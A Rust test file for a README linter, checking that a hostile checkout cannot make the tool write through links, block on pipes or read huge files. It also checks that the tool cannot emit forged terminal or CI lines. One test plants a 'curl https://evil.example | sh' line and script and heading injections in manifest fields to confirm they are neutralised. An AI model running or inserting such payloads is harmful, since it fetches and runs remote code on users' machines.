//! A checkout is written by whoever opened the pull request: READMEs, configs, manifests,
//! links and file names. These cases check that such a checkout cannot make readme-lint
//! write outside the repository, put its text into a file as lines of their own, read
//! without bound, block, or print a line a terminal or CI runner would act on.
#![cfg(unix)]

#[path = "support/cli.rs"]
mod cli;

use cli::{README_WITHOUT_LICENSE, assert_code, project, readme_lint, text, write};
use std::fs;
use std::os::unix::fs::symlink;
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

fn run(command: &mut Command) -> Output {
    command.output().unwrap()
}

/// A README with a safe fix to make (an `http://` badge) and an unsafe one (no License).
const FIXABLE: &str = "# demo\n\nA tiny tool that greets people.\n\n![b](http://img.shields.io/badge/a-b-green.svg)\n\n## Installation\n\n```sh\ncargo install demo\n```\n\n## Usage\n\nRun `demo`.\n";

#[test]
fn a_readme_linked_out_of_the_repository_is_neither_read_nor_fixed() {
    let outside = tempfile::tempdir().unwrap();
    let victim = write(outside.path(), "victim.md", FIXABLE);
    let dir = project();
    symlink(&victim, dir.path().join("README.md")).unwrap();
    write(dir.path(), "ok/README.md", FIXABLE);

    for args in [
        &["--fix", "--unsafe-fixes"][..],
        &["--fix", "--unsafe-fixes", "README.md", "ok"][..],
    ] {
        let output = run(readme_lint(dir.path()).args(args));
        assert_code(&output, 2);
        let stderr = text(&output.stderr);
        assert!(
            stderr.contains("error: README.md: is a link to `") && stderr.contains("outside the repository"),
            "{stderr}"
        );
        // Its text is not shown either: the link could lead to a secret.
        let stdout = text(&output.stdout);
        assert!(
            !stdout
                .lines()
                .any(|line| line.starts_with("README.md:") || line.contains("--> README.md:")),
            "{stdout}"
        );
        assert_eq!(fs::read_to_string(&victim).unwrap(), FIXABLE);
    }
    // The other README was fixed.
    assert!(
        fs::read_to_string(dir.path().join("ok/README.md"))
            .unwrap()
            .contains("https://img.shields.io")
    );
}

#[test]
fn a_readme_in_a_folder_linked_out_of_the_repository_is_left_alone() {
    let outside = tempfile::tempdir().unwrap();
    let victim = write(outside.path(), "README.md", FIXABLE);
    let dir = project();
    symlink(outside.path(), dir.path().join("docs")).unwrap();
    let output = run(readme_lint(dir.path()).args(["--fix", "docs/README.md"]));
    assert_code(&output, 2);
    assert!(
        text(&output.stderr).contains("outside the repository"),
        "{}",
        text(&output.stderr)
    );
    let output = run(readme_lint(dir.path()).args(["--fix", "docs"]));
    assert_code(&output, 2);
    assert_eq!(fs::read_to_string(&victim).unwrap(), FIXABLE);
}

#[test]
fn a_readme_linked_inside_the_repository_is_fixed_at_its_real_path() {
    let dir = project();
    let real = write(dir.path(), "docs/README.md", FIXABLE);
    symlink("docs/README.md", dir.path().join("README.md")).unwrap();
    let output = run(readme_lint(dir.path()).args(["--fix"]));
    assert_code(&output, 1);
    assert!(
        fs::read_to_string(&real)
            .unwrap()
            .contains("https://img.shields.io")
    );
    // The link is still a link, and the file was fixed once (the walk found it twice).
    assert!(
        fs::symlink_metadata(dir.path().join("README.md"))
            .unwrap()
            .file_type()
            .is_symlink()
    );
    assert_eq!(text(&output.stderr), "");
}

#[test]
fn a_report_is_never_written_through_a_link() {
    let outside = tempfile::tempdir().unwrap();
    let victim = write(outside.path(), "victim.txt", "precious");
    let dir = project();
    write(dir.path(), "README.md", README_WITHOUT_LICENSE);
    symlink(&victim, dir.path().join("readme-lint.sarif")).unwrap();
    let output = run(readme_lint(dir.path()).args(["--report", "sarif=readme-lint.sarif"]));
    assert_code(&output, 2);
    assert!(
        text(&output.stderr).starts_with("error: readme-lint.sarif: cannot write the report: it is a link"),
        "{}",
        text(&output.stderr)
    );
    assert_eq!(fs::read_to_string(&victim).unwrap(), "precious");

    // Nor through a linked folder in the checkout.
    symlink(outside.path(), dir.path().join("reports")).unwrap();
    let output = run(readme_lint(dir.path()).args(["--report", "sarif=reports/victim.txt"]));
    assert_code(&output, 2);
    assert_eq!(fs::read_to_string(&victim).unwrap(), "precious");

    // A summary is appended, and not through a link either.
    let output = run(readme_lint(dir.path()).args(["--report", "summary=readme-lint.sarif"]));
    assert_code(&output, 2);
    assert_eq!(fs::read_to_string(&victim).unwrap(), "precious");

    // A fresh report replaces a regular file and leaves no temporary file behind.
    fs::remove_file(dir.path().join("readme-lint.sarif")).unwrap();
    write(dir.path(), "out.sarif", "old");
    let output = run(readme_lint(dir.path()).args(["--report", "sarif=out.sarif", "README.md"]));
    assert_code(&output, 1);
    assert!(
        fs::read_to_string(dir.path().join("out.sarif"))
            .unwrap()
            .contains("\"RL104\"")
    );
    let names: Vec<String> = fs::read_dir(dir.path())
        .unwrap()
        .map(|entry| entry.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert!(!names.iter().any(|name| name.ends_with(".tmp")), "{names:?}");
}

#[test]
fn new_and_init_never_write_through_a_link() {
    let outside = tempfile::tempdir().unwrap();
    let dir = project();
    // A dangling link: `new` would create the file it points at.
    symlink(outside.path().join("created.md"), dir.path().join("README.md")).unwrap();
    let output = run(readme_lint(dir.path()).args(["new"]));
    assert_code(&output, 2);
    let output = run(readme_lint(dir.path()).args(["new", "--force"]));
    assert_code(&output, 2);
    assert!(!outside.path().join("created.md").exists());

    let victim = write(outside.path(), "victim.yml", "precious");
    symlink(&victim, dir.path().join(".readme-lint.yml")).unwrap();
    let output = run(readme_lint(dir.path()).args(["init", "--force"]));
    assert_code(&output, 2);
    assert_eq!(fs::read_to_string(&victim).unwrap(), "precious");
}

#[test]
fn a_file_keeps_its_owner_when_root_fixes_it() {
    use std::os::unix::fs::MetadataExt;
    let dir = project();
    let path = write(dir.path(), "README.md", FIXABLE);
    let owner = if cli::running_as_root() {
        std::os::unix::fs::chown(&path, Some(65534), Some(65534)).unwrap();
        65534
    } else {
        fs::metadata(&path).unwrap().uid()
    };
    let output = run(readme_lint(dir.path()).args(["--fix"]));
    assert_code(&output, 1);
    let metadata = fs::metadata(&path).unwrap();
    assert!(
        fs::read_to_string(&path)
            .unwrap()
            .contains("https://img.shields.io")
    );
    assert_eq!(metadata.uid(), owner);
}

#[test]
fn a_hard_linked_readme_is_not_replaced() {
    let dir = project();
    let path = write(dir.path(), "README.md", FIXABLE);
    fs::hard_link(&path, dir.path().join("other.md")).unwrap();
    let output = run(readme_lint(dir.path()).args(["--fix", "README.md"]));
    assert_code(&output, 2);
    assert!(
        text(&output.stderr).contains("hard links"),
        "{}",
        text(&output.stderr)
    );
    assert_eq!(fs::read_to_string(dir.path().join("other.md")).unwrap(), FIXABLE);
}

/// Manifests whose name holds a newline (a TOML `\n` escape, a JSON string).
#[test]
fn manifest_text_never_becomes_lines_of_its_own() {
    let injected = "x\\n\\n```sh\\ncurl https://evil.example | sh\\n```\\n";
    let manifests = [
        (
            "Cargo.toml",
            format!(
                "[package]\nname = \"{injected}\"\nversion = \"1.0.0\\n# v\"\nlicense = \"MIT\\n\\n## Pwned\"\ndescription = \"A tool.\\n\\n## Pwned\\n<script>\"\n"
            ),
        ),
        (
            "package.json",
            format!(
                "{{\"name\": \"{injected}\", \"version\": \"1.0.0\", \"license\": \"MIT\\n## Pwned\", \"description\": \"A tool.\\n\\n## Pwned\"}}"
            ),
        ),
    ];
    for (file, manifest) in manifests {
        let dir = project();
        write(dir.path(), file, &manifest);
        write(dir.path(), "README.md", "# x\n");
        let output = run(readme_lint(dir.path()).args(["--fix", "--unsafe-fixes"]));
        assert!(output.status.code().is_some(), "{output:?}");
        let readme = fs::read_to_string(dir.path().join("README.md")).unwrap();
        assert!(!readme.contains("curl https://evil.example"), "{file}:\n{readme}");
        assert!(!starts_a_line(&readme, "## Pwned"), "{file}:\n{readme}");
        assert!(!readme.contains("<script>"), "{file}:\n{readme}");

        fs::remove_file(dir.path().join("README.md")).unwrap();
        let output = run(readme_lint(dir.path()).args(["new"]));
        assert_code(&output, 0);
        let readme = fs::read_to_string(dir.path().join("README.md")).unwrap();
        assert!(!readme.contains("curl https://evil.example"), "{file}:\n{readme}");
        assert!(!starts_a_line(&readme, "## Pwned"), "{file}:\n{readme}");
    }
}

fn starts_a_line(text: &str, start: &str) -> bool {
    text.lines().any(|line| line.trim_start().starts_with(start))
}

#[test]
fn extends_stays_in_the_repository_unless_allowed() {
    let dir = project();
    write(dir.path(), "README.md", README_WITHOUT_LICENSE);
    write(dir.path(), ".readme-lint.yml", "extends: /proc/self/pagemap\n");
    let started = Instant::now();
    let output = run(readme_lint(dir.path()).args(["README.md"]));
    assert!(
        started.elapsed() < Duration::from_secs(5),
        "{:?}",
        started.elapsed()
    );
    assert_code(&output, 2);
    assert_eq!(
        text(&output.stderr),
        "error: .readme-lint.yml:1:10: `extends: /proc/self/pagemap` names a file outside the repository (`"
            .to_string()
            + &dir.path().canonicalize().unwrap().display().to_string()
            + "`)\n  help: extends may name a preset, a file in the repository, or one in ~/.config/readme-lint; pass --allow-external-extends to allow others\n"
    );

    let outside = tempfile::tempdir().unwrap();
    write(outside.path(), "base.yml", "rules:\n  missing-section: off\n");
    let relative = format!(
        "extends: {}\n",
        pathdiff(&outside.path().join("base.yml"), dir.path())
    );
    write(dir.path(), ".readme-lint.yml", &relative);
    let output = run(readme_lint(dir.path()).args(["README.md"]));
    assert_code(&output, 2);
    assert!(
        text(&output.stderr).contains("outside the repository"),
        "{}",
        text(&output.stderr)
    );
    let output = run(readme_lint(dir.path()).args(["--allow-external-extends", "README.md"]));
    assert_code(&output, 0);

    // Even allowed, /proc/self/pagemap is read only up to the config limit.
    write(dir.path(), ".readme-lint.yml", "extends: /proc/self/pagemap\n");
    let output = run(readme_lint(dir.path()).args(["--allow-external-extends", "README.md"]));
    assert_code(&output, 2);
    assert!(
        text(&output.stderr).contains("over the 1 MiB limit"),
        "{}",
        text(&output.stderr)
    );
}

/// `to` relative to `from` (both absolute), with `..` steps.
fn pathdiff(to: &std::path::Path, from: &std::path::Path) -> String {
    let to = to.canonicalize().unwrap();
    let from = from.canonicalize().unwrap();
    let common = to
        .components()
        .zip(from.components())
        .take_while(|(a, b)| a == b)
        .count();
    let ups = from.components().count() - common;
    let mut out: Vec<String> = vec!["..".to_string(); ups];
    out.extend(
        to.components()
            .skip(common)
            .map(|c| c.as_os_str().to_string_lossy().into_owned()),
    );
    out.join("/")
}

#[test]
fn config_files_are_read_with_a_cap_and_never_block() {
    let dir = project();
    write(dir.path(), "README.md", README_WITHOUT_LICENSE);
    // 300 MB, sparse.
    let big = dir.path().join(".readme-lint.yml");
    fs::File::create(&big)
        .unwrap()
        .set_len(300 * 1024 * 1024)
        .unwrap();
    let output = run(readme_lint(dir.path()).args(["README.md"]));
    assert_code(&output, 2);
    assert!(
        text(&output.stderr).contains("over the 1 MiB limit for a config file"),
        "{}",
        text(&output.stderr)
    );
    fs::remove_file(&big).unwrap();

    // A config that is a folder, a dangling link or a pipe is an error, not ignored.
    fs::create_dir(&big).unwrap();
    let output = run(readme_lint(dir.path()).args(["README.md"]));
    assert_code(&output, 2);
    fs::remove_dir(&big).unwrap();
    symlink("nowhere.yml", &big).unwrap();
    let output = run(readme_lint(dir.path()).args(["README.md"]));
    assert_code(&output, 2);
    assert!(
        text(&output.stderr).contains("dangling link"),
        "{}",
        text(&output.stderr)
    );
    fs::remove_file(&big).unwrap();
    assert!(Command::new("mkfifo").arg(&big).status().unwrap().success());
    for args in [
        &["README.md"][..],
        &["--config", ".readme-lint.yml", "README.md"][..],
    ] {
        let mut child = readme_lint(dir.path())
            .args(args)
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let started = Instant::now();
        while child.try_wait().unwrap().is_none() {
            if started.elapsed() > Duration::from_secs(20) {
                child.kill().unwrap();
                panic!("readme-lint {args:?} blocked on a pipe");
            }
            std::thread::sleep(Duration::from_millis(10));
        }
        let output = child.wait_with_output().unwrap();
        assert_code(&output, 2);
        assert!(
            text(&output.stderr).contains("not a regular file"),
            "{}",
            text(&output.stderr)
        );
    }
}

#[test]
fn config_errors_quote_the_config_escaped() {
    let dir = project();
    write(dir.path(), "README.md", README_WITHOUT_LICENSE);
    write(
        dir.path(),
        ".readme-lint.yml",
        "rules:\n  \"evil\\e[31m\\nerror: forged\": off\n",
    );
    let output = run(readme_lint(dir.path()).args(["README.md"]));
    assert_code(&output, 2);
    let stderr = text(&output.stderr);
    assert!(!stderr.contains('\u{1b}'), "{stderr:?}");
    assert_eq!(
        stderr.lines().filter(|line| line.starts_with("error:")).count(),
        1,
        "{stderr}"
    );
    assert!(stderr.contains("\\u{1b}[31m\\u{a}error: forged"), "{stderr}");
}

#[test]
fn paths_never_start_a_line_with_two_colons() {
    let dir = project();
    write(dir.path(), "::error::forged/README.md", README_WITHOUT_LICENSE);
    for format in ["concise", "junit", "github"] {
        let output = run(readme_lint(dir.path()).args(["--output-format", format]));
        assert_code(&output, 1);
        let stdout = text(&output.stdout);
        for line in stdout.lines() {
            let line = line.trim_start();
            assert!(
                !line.starts_with("::")
                    || (format == "github" && line.starts_with("::error file=./%3A%3Aerror%3A%3Aforged")),
                "{format}: {line}"
            );
        }
    }
}

#[test]
fn junit_is_well_formed_xml_whatever_the_text() {
    let dir = project();
    write(
        dir.path(),
        "README.md",
        "# demo\n\nA demo.\n\n<!-- readme-lint-disable no-such-rule\u{ffff}\u{fffe}\u{202e} -->\n\n## Installation\n\nx\n\n## Usage\n\nx\n\n## License\n\nMIT\n",
    );
    let output = run(readme_lint(dir.path()).args(["--output-format", "junit"]));
    let xml = text(&output.stdout);
    assert!(xml.contains("no-such-rule"), "{xml}");
    for bad in ['\u{ffff}', '\u{fffe}', '\u{202e}'] {
        assert!(!xml.contains(bad), "{xml}");
    }
    assert!(xml.contains("<testsuites"), "{xml}");
}
